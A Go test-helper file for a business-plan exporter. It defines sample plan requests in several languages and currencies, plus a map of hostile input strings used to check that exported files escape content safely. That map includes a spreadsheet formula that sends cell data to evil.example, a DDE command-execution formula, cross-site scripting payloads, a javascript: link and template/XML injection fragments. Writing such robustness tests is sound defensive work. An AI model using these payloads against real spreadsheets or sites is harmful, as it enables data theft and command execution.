// Package exporttest makes plans for the tests of exports: those of several trades and places, and one
// whose every text is hostile; and has those tests that read whole files. It starts no goroutines.
package exporttest

import (
	"bytes"
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/planspark/planspark/export"
	"github.com/planspark/planspark/generation"
	"github.com/planspark/planspark/protocol"
)

// Day is when all plans of tests are made.
var Day = time.Date(2026, 12, 10, 9, 30, 0, 0, time.UTC)

// Requests by name.
func Requests() map[string]protocol.Request {
	return map[string]protocol.Request{
		"cafe":      {Idea: "A neighbourhood café in Lisbon with home-made cakes and a small terrace", Location: "Lisbon, Portugal", Budget: "60000", Currency: "EUR", BusinessType: "cafe"},
		"saas":      {Idea: "Software that plans the shifts of small clinics and asks everybody first", Location: "Austin, Texas", Budget: "150000", Currency: "USD", BusinessType: "saas"},
		"trade":     {Idea: "A plumber who comes on time and says the price before", Location: "Perth, Australia", Budget: "45000", Currency: "AUD", BusinessType: "trades"},
		"nonprofit": {Idea: "A food bank that teaches cooking with what is left over", Location: "Mumbai, India", Budget: "2500000", Currency: "INR", BusinessType: "nonprofit"},
		"ramen":     {Idea: "東京の小さなラーメン屋。自家製麺と昼の定食", Location: "Tokyo, Japan", Budget: "9000000", Currency: "JPY", BusinessType: "restaurant"},
		"taqueria":  {Idea: "Una taquería de barrio que abre hasta la madrugada", Location: "Guadalajara, México", Budget: "450000", Currency: "MXN", BusinessType: "restaurant", Locale: "es-MX"},
		"gym":       {Idea: "نادي رياضي صغير للنساء مع حضانة للأطفال", Location: "Kuwait City, Kuwait", Budget: "40000", Currency: "KWD", BusinessType: "gym"},
	}
}

// Planner is the planner that makes them.
func Planner(t testing.TB) *generation.Planner {
	t.Helper()
	p, err := generation.NewPlanner()
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// Plan makes a finished plan, as the offline planner writes it.
func Plan(t testing.TB, p *generation.Planner, r protocol.Request) generation.Plan {
	t.Helper()
	r, err := p.Complete(r)
	if err != nil {
		t.Fatal(err)
	}
	made, err := p.Draft(context.Background(), generation.Record{
		ID: "0193a5c2-7c1e-7d60-9f3e-2f6f5c1d4b7a", Request: r, CreatedAt: Day,
		Fingerprint: generation.FingerprintOf("someone", r),
	})
	if err != nil {
		t.Fatal(err)
	}
	made.Draft = false
	return made
}

// Hostile are texts that try to be more than text.
func Hostile() map[string]string {
	return map[string]string{
		"formula":    `=HYPERLINK("http://evil.example/?x="&A1,"click") and +1+cmd|' /C calc'!A0 and @SUM(1)`,
		"script":     `<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)></style></title>--><!--`,
		"markdown":   "![x](http://evil.example/p.png) [y](javascript:alert(1)) <http://evil.example> http://evil.example/ # no\n# heading\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |",
		"rtl":        "مقهى صغير \u202Eevil\u202C في لشبونة and בית קפה with 3 tables (two) inside",
		"emoji":      "👩‍🍳🚀🎂☕️🍰🇵🇹 " + strings.Repeat("🥐", 40),
		"no spaces":  strings.Repeat("Donaudampfschifffahrtsgesellschaft", 58),
		"chinese":    strings.Repeat("在里斯本开一家有自制蛋糕的社区咖啡馆。", 40),
		"devanagari": "लिस्बन में घर के बने केक वाला एक छोटा कैफ़े, ไทย and አማርኛ",
		"controls":   "A café\x00\x01\x1b[31m with \u0000 and \uFFFE bytes \x7f and ]]> & &amp; &lt;b&gt; \\ `code` *bold*",
		"template":   "{{.}} ${7*7} %s %d #{x} ]]></w:t></w:r><w:p/> %%EOF endobj (unbalanced \\) stream",
	}
}

// HostilePlan is a plan in which the user's texts and a language model's sections try everything.
func HostilePlan(made generation.Plan, text string) generation.Plan {
	made.Request.Idea, made.Request.Personalization, made.Request.Location = text, text, text
	made.Sections = slices.Clone(made.Sections)
	for i := range made.Sections {
		s := &made.Sections[i]
		s.Source = "openai"
		s.Markdown = text + "\n\n" + s.Markdown + "\n\n> " + text + "\n\n- " + text + "\n\n| " + text + " | b |\n| --- | ---: |\n| " + text + " | 1 |\n\n" + text
	}
	made.Sections[1].Title = text
	return made
}

// Written is a file of a plan.
func Written(t testing.TB, x *export.Exporter, f protocol.Format, p generation.Plan) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := x.Write(context.Background(), &b, f, p); err != nil {
		t.Fatalf("%s: %v", f, err)
	}
	return b.Bytes()
}
